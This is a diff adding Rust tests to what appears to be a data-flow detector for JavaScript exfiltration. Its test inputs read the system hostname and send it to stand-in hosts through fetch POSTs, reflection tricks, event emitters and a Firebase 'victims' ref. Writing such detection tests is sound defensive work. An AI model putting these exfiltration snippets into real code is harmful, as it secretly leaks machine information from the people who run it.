@@ -2162,3 +2162,77 @@ fn passing_a_download_on_sends_nothing() {
         got.post('https://t.example.top/e', { body: os.hostname() }).then((r) => r.body);");
     assert_eq!(f.flows.len(), 1, "{:#?}", f.flows);
 }
+
+#[test]
+fn members_found_by_reflection_are_those_members() {
+    for src in [
+        "const os = require('os'); const f = Object.entries(os).find(([k]) => k === 'hostname')[1];
+         fetch('https://r.example.net/x', { method: 'POST', body: f() });",
+        "const os = require('os'); const k = Object.keys(os).find((n) => n.startsWith('hostn'));
+         fetch('https://r.example.net/x', { method: 'POST', body: os[k]() });",
+    ] {
+        let f = run(src);
+        assert!(
+            f.flows
+                .iter()
+                .any(|fl| fl.kinds.contains(DataKind::Hostname)),
+            "{src}\n{:#?}",
+            f.flows
+        );
+    }
+    // A predicate several members meet picks whichever comes first at run time: unknown.
+    let f = run(
+        "const os = require('os'); const k = Object.keys(os).find((n) => n.startsWith('h'));
+         fetch('https://r.example.net/x', { method: 'POST', body: os[k]() });",
+    );
+    assert!(f.flows.is_empty(), "{:#?}", f.flows);
+}
+
+#[test]
+fn own_event_emitters_deliver_what_emit_passes() {
+    let f = run(
+        "const { EventEmitter } = require('events'); const bus = new EventEmitter();
+        bus.on('ready', (h) => fetch('https://e.example.net/x', { method: 'POST', body: h }));
+        bus.emit('ready', require('os').hostname());",
+    );
+    assert!(
+        f.flows
+            .iter()
+            .any(|fl| fl.kinds.contains(DataKind::Hostname)),
+        "{:#?}",
+        f.flows
+    );
+    // Another event, or another emitter, delivers nothing to that listener.
+    for other in [
+        "bus.emit('done', require('os').hostname());",
+        "const other = new EventEmitter(); other.emit('ready', require('os').hostname());",
+    ] {
+        let f = run(&format!(
+            "const {{ EventEmitter }} = require('events'); const bus = new EventEmitter();
+            bus.on('ready', (h) => fetch('https://e.example.net/x', {{ method: 'POST', body: h }}));
+            {other}"
+        ));
+        assert!(f.flows.is_empty(), "{other}\n{:#?}", f.flows);
+    }
+}
+
+#[test]
+fn firebase_writes_are_sends() {
+    for src in [
+        "const firebase = require('firebase'); firebase.initializeApp({ databaseURL: 'https://x-default-rtdb.firebaseio.com' });
+         firebase.database().ref('victims').push({ host: require('os').hostname() });",
+        "const { getDatabase, ref, push } = require('firebase/database');
+         push(ref(getDatabase(), 'v'), { host: require('os').hostname() });",
+    ] {
+        let f = run(src);
+        assert!(
+            f.flows.iter().any(|fl| fl.kinds.contains(DataKind::Hostname)),
+            "{src}\n{:#?}",
+            f.flows
+        );
+    }
+    // Reading from the database sends nothing.
+    let f = run("const firebase = require('firebase');
+        firebase.database().ref('config').once('value', (s) => console.log(s.val(), require('os').hostname()));");
+    assert!(f.flows.is_empty(), "{:#?}", f.flows);
+}
